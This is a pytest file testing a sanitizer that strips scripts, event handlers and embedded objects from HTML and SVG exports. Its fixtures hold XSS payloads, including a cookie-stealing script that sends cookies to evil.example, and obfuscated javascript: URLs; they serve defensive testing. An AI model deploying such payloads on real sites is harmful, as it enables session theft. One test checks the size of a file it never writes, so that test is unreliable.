"""Scripts in HTML and SVG are found by the checks and stripped before an export is stored."""

from __future__ import annotations

from pathlib import Path

import pytest

from infracalc.casd.checks import Outcome, ParseRefused, strip_active_content

from .conftest import Check, finding

PAGE = """<!DOCTYPE html>
<html><head><title>Results</title>
<script src="https://evil.example/x.js"></script>
<SCRIPT type="text/javascript">document.location = 'https://evil.example/?' + document.cookie</SCRIPT>
<style>td { color: red } </style>
</head>
<body onload="steal()">
<a href="jav&#x09;ascript:alert(1)">link</a>
<a href=" JAVASCRIPT:alert(2)">other</a>
<img src="chart.png" onerror="steal()" alt="chart">
<iframe src="https://evil.example"><p>nested</p></iframe>
<object data="x.swf"><embed src="x.swf"></object>
<embed src="y.swf">
<!--[if IE]><script>old()</script><![endif]-->
<table><tr><td>Paris &amp; region</td><td>3 &lt; 5</td></tr></table>
<![CDATA[><script>cdata()</script>]]>
</body></html>
"""

DRAWING = """<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     viewBox="0 0 100 100" onload="alert(1)">
  <defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs>
  <script type="application/ecmascript"><![CDATA[ alert(2) ]]></script>
  <a xlink:href="javascript:alert(3)"><rect width="10" height="10" fill="url(#g)"/></a>
  <set attributeName="onmouseover" to="alert(4)"/>
  <animate attributeName="href" values="javascript:alert(5)"></animate>
  <foreignObject><iframe src="x"></iframe></foreignObject>
  <text x="1" y="2">n &lt; 10</text>
</svg>
"""

FORBIDDEN = ("<script", "onload", "onerror", "onmouseover", "javascript:", "<iframe", "<embed", "<object", "cdata()")


def test_the_check_reports_scripts_without_asking_for_review(check: Check) -> None:
    report = check("page.html", PAGE)
    scripts = finding(report, "scripts")
    assert scripts.outcome is Outcome.PASS
    assert scripts.reason.startswith("active content found (")
    assert scripts.reason.endswith("it is removed before the file is stored")
    assert scripts.details["removed"] >= 9
    assert report.detected_type == "html"
    assert finding(report, "manual_review").outcome is Outcome.REVIEW


def test_a_page_without_scripts_says_so(check: Check) -> None:
    scripts = finding(check("page.html", "<html><body><p>hello</p></body></html>"), "scripts")
    assert scripts.reason == "no script, event handler or embedded object found"
    assert scripts.details["removed"] == 0


def test_stripping_removes_every_script_from_a_page(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(PAGE)
    assert strip_active_content(path, "html") is True
    cleaned = path.read_text()
    lowered = cleaned.lower()
    for word in FORBIDDEN:
        assert word not in lowered, word
    assert "<title>Results</title>" in cleaned
    assert "<td>Paris &amp; region</td><td>3 &lt; 5</td>" in cleaned
    assert '<img src="chart.png" alt="chart">' in cleaned
    assert "td { color: red }" in cleaned
    assert "<p>nested</p>" not in cleaned
    assert strip_active_content(path, "html") is False  # nothing left to remove


def test_stripping_a_drawing_keeps_its_case_sensitive_names(tmp_path: Path) -> None:
    path = tmp_path / "figure.svg"
    path.write_text(DRAWING)
    assert strip_active_content(path, "svg") is True
    cleaned = path.read_text()
    for word in FORBIDDEN:
        assert word not in cleaned.lower(), word
    assert "set" not in cleaned.replace("offset", "")
    assert "<animate" not in cleaned
    assert 'xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100">' in cleaned  # rebuilt, case kept
    assert '<linearGradient id="g">' in cleaned
    assert "</linearGradient>" in cleaned
    assert "<foreignObject></foreignObject>" in cleaned
    assert "alert(2)" not in cleaned
    assert '<?xml version="1.0" encoding="UTF-8"?>' in cleaned
    assert '<text x="1" y="2">n &lt; 10</text>' in cleaned


def test_a_clean_file_is_left_untouched(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    original = "<html><!-- a note --><body><p class=x>ok</p></body></html>"
    path.write_text(original)
    assert strip_active_content(path, "html") is False
    assert path.read_text() == original
    assert list(tmp_path.iterdir()) == [path]  # no temporary file left behind


def test_an_unclosed_script_removes_the_rest(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text("<p>kept</p><script>alert(1); <p>inside</p>")
    assert strip_active_content(path, "html") is True
    assert path.read_text() == "<p>kept</p>"


def test_bytes_that_are_not_utf8_pass_through(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_bytes("<p>Île-de-France</p><script>x()</script>".encode("cp1252"))
    assert strip_active_content(path, "html") is True
    assert path.read_bytes() == "<p>Île-de-France</p>".encode("cp1252")


@pytest.mark.parametrize("kind", ["csv", "txt", "png", "pdf"])
def test_other_types_are_left_alone(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "file"
    path.write_text("<script>alert(1)</script>")
    assert strip_active_content(path, kind) is False
    assert path.read_text() == "<script>alert(1)</script>"


def test_the_file_keeps_its_permissions(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text("<p onclick='x()'>hi</p>")
    path.chmod(0o640)
    assert strip_active_content(path, "html") is True
    assert path.stat().st_mode & 0o777 == 0o640
    assert path.read_text() == "<p>hi</p>"


def test_an_unclosed_comment_too_long_to_hold_fails_to_parse(check: Check, tmp_path: Path) -> None:
    report = check("page.html", "<html><body><!--" + "a" * (17 * 1024 * 1024))
    refusal = finding(report, "parse")
    assert refusal.outcome is Outcome.FAIL
    assert "unfinished comment, tag or script longer than" in refusal.reason
    path = tmp_path / "page.html"
    with pytest.raises(ParseRefused):
        strip_active_content(path, "html")
    assert path.stat().st_size > 17 * 1024 * 1024  # left unchanged


def test_a_page_with_a_large_inline_script_is_stripped(tmp_path: Path) -> None:
    # Plotting libraries export HTML with megabytes of inline JavaScript.
    path = tmp_path / "plot.html"
    path.write_text("<html><body><div id=p>plot</div><script>" + "var x = 1;\n" * 400_000 + "</script></body></html>")
    assert strip_active_content(path, "html") is True
    assert path.read_text() == "<html><body><div id=p>plot</div></body></html>"
